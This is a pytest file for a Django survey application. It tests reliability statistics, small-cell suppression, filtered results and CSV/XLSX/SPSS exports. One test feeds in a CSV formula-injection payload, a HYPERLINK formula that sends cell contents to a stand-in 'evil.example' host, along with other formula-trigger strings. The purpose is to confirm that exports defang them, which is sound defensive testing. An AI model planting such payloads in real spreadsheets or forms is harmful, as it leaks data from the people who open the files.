"""Results: counts and percents, means, scales with Cronbach's alpha, suppression of every cell
under five, filters, and the exports (CSV, XLSX, SPSS with value labels)."""

from __future__ import annotations

import io
import os
import tempfile

import numpy as np
import pytest

from kaskad.registry.tests.factories import area_of, make_organisation
from kaskad.surveys import exports
from kaskad.surveys.selectors import Filters, survey_results
from kaskad.surveys.services import response_submit_public
from kaskad.surveys.statistics import cronbach_alpha, suppress
from kaskad.surveys.tests.factories import GOOD_ANSWERS, public_survey


def test_cronbach_alpha_matches_a_worked_example() -> None:
    # Three items, five respondents; by hand: item variances 1.3 + 1.3 + 0.7 = 3.3,
    # total variance 9.3, alpha = 3/2 × (1 − 3.3/9.3) = 0.967741...
    items = np.array([[1, 2, 2], [2, 2, 3], [3, 4, 3], [4, 4, 4], [3, 3, 3]], dtype=float)
    item_var = items.var(axis=0, ddof=1).sum()
    total_var = items.sum(axis=1).var(ddof=1)
    assert cronbach_alpha(items) == pytest.approx(1.5 * (1 - item_var / total_var))
    assert cronbach_alpha(np.array([[1.0, 1.0], [1.0, 1.0]])) is None
    assert cronbach_alpha(np.array([[1.0], [2.0]])) is None


def test_suppression_hides_small_cells_and_one_more() -> None:
    assert suppress([10, 3, 12, 0]) == [None, None, 12, 0]
    assert suppress([10, 3, 2, 7]) == [10, None, None, 7]
    assert suppress([5, 6]) == [5, 6]


@pytest.mark.django_db
def test_results_per_question_scale_and_filter() -> None:
    school = make_organisation(area=area_of("ALA"))
    small_school = make_organisation(area=area_of("ALA"))
    survey = public_survey()
    survey.organisations.set([school, small_school])
    answers = [("4", "5"), ("4", "4"), ("5", "5"), ("3", "3"), ("4", "4"), ("2", "1")]
    answers += [("4", "4"), ("4", "5"), ("4", "4"), ("5", "4")]
    for index, (safe, teachers) in enumerate(answers):
        response_submit_public(
            survey=survey,
            raw={**GOOD_ANSWERS, "safe": safe, "teachers": teachers, "food": safe},
            token=f"t{index}",
            group="parent",
            organisation_id=school.pk,
        )
    response_submit_public(
        survey=survey,
        raw=GOOD_ANSWERS,
        token="small",
        group="pupil",
        organisation_id=small_school.pk,
    )
    results = survey_results(survey=survey, filters=Filters(), language="kk")
    assert results.total == 11
    safe_result = next(q for q in results.questions if q.name == "safe")
    counts = {c.label: c.count for c in safe_result.cells}
    # "4" was chosen 7 times (6 here + the small school's): shown; 1 or 2 times: hidden.
    assert counts["Келісемін"] == 7
    assert counts["Толық келісемін"] is None
    assert counts["Келіспеймін"] is None and counts["Бейтарап"] is None
    assert counts["Мүлдем келіспеймін"] == 0
    assert safe_result.mean == pytest.approx(np.mean([4, 4, 5, 3, 4, 2, 4, 4, 4, 5, 4]))
    scale = next(s for s in results.scales if s.name == "agree")
    assert scale.respondents == 11 and scale.alpha is not None
    # A school with one response: nothing shown at all.
    small = survey_results(
        survey=survey, filters=Filters(organisation_id=small_school.pk), language="kk"
    )
    assert small.total is None and small.questions == []
    pupils = survey_results(survey=survey, filters=Filters(group="pupil"), language="kk")
    assert pupils.total is None


@pytest.mark.django_db
def test_exports_carry_codes_and_value_labels_but_no_small_school() -> None:
    import pyreadstat

    school = make_organisation(area=area_of("ALA"), code="SCH-SMALL")
    survey = public_survey()
    survey.organisations.set([school])
    for index in range(3):
        response_submit_public(
            survey=survey,
            raw=GOOD_ANSWERS,
            token=f"x{index}",
            group="parent",
            organisation_id=school.pk,
        )
    text = exports.as_csv(survey, "ru").decode("utf-8-sig")
    assert "SCH-SMALL" not in text and "Возраст ребёнка" in text
    assert exports.as_xlsx(survey, "kk")[:2] == b"PK"
    handle, path = tempfile.mkstemp(suffix=".sav")
    os.close(handle)
    try:
        with open(path, "wb") as file:
            file.write(exports.as_sav(survey, "ru"))
        frame, meta = pyreadstat.read_sav(path)
    finally:
        os.unlink(path)
    assert list(frame["safe"]) == [4.0, 4.0, 4.0]
    assert meta.variable_value_labels["safe"][5.0] == "Полностью согласен"
    assert meta.variable_value_labels["has_child"] == {1.0: "Да", 2.0: "Нет"}
    assert list(frame["topics_maths"]) == [1.0] * 3 and list(frame["topics_reading"]) == [0.0] * 3
    assert meta.column_names_to_labels["age"] == "Возраст ребёнка"


@pytest.mark.django_db
def test_exports_do_not_turn_a_respondents_text_into_a_formula() -> None:
    # A public respondent types a spreadsheet formula into an open question: the exports must
    # carry it as text, never as a formula that runs when the officer opens the file.
    import openpyxl

    survey = public_survey()
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    for index, comment in enumerate([hostile, "+1+1", "-2+3", "@SUM(A1)", "fine"]):
        response_submit_public(
            survey=survey,
            raw={**GOOD_ANSWERS, "comment": comment},
            token=f"f{index}",
            group="parent",
            organisation_id=None,
        )
    text = exports.as_csv(survey, "ru").decode("utf-8-sig")
    cells = [cell for line in text.splitlines() for cell in line.split(",")]
    assert not any(cell.lstrip('"').startswith(("=", "+", "-", "@")) for cell in cells)
    assert "'=HYPERLINK" in text
    book = openpyxl.load_workbook(io.BytesIO(exports.as_xlsx(survey, "ru")))
    values = [c.value for row in book.active.iter_rows() for c in row]
    assert hostile in values
    assert not any(c.data_type == "f" for row in book.active.iter_rows() for c in row)


@pytest.mark.django_db
def test_a_filtered_view_cannot_be_subtracted_from_a_wider_one() -> None:
    # Ten parents and one pupil answered in one school. "School" (11) minus "school + parent"
    # (10), or the whole survey minus "parent", would be the pupil's own answers: a view that
    # differs from a wider view shown on the page by one to four responses shows nothing.
    from kaskad.surveys.selectors import Filters as F

    school = make_organisation(area=area_of("ALA"))
    survey = public_survey()
    survey.organisations.set([school])
    for index in range(10):
        response_submit_public(
            survey=survey,
            raw={**GOOD_ANSWERS, "safe": "4"},
            token=f"p{index}",
            group="parent",
            organisation_id=school.pk,
        )
    response_submit_public(
        survey=survey,
        raw={**GOOD_ANSWERS, "safe": "1"},
        token="pupil",
        group="pupil",
        organisation_id=school.pk,
    )
    whole = survey_results(survey=survey, filters=F(), language="kk")
    assert whole.total == 11
    for narrower in (
        F(group="parent"),
        F(organisation_id=school.pk, group="parent"),
        F(area_id=school.area_id, group="parent"),
    ):
        assert survey_results(survey=survey, filters=narrower, language="kk").total is None
    # A view equal to the wider one (every response is in this school) is no difference.
    same = survey_results(survey=survey, filters=F(organisation_id=school.pk), language="kk")
    assert same.total == 11
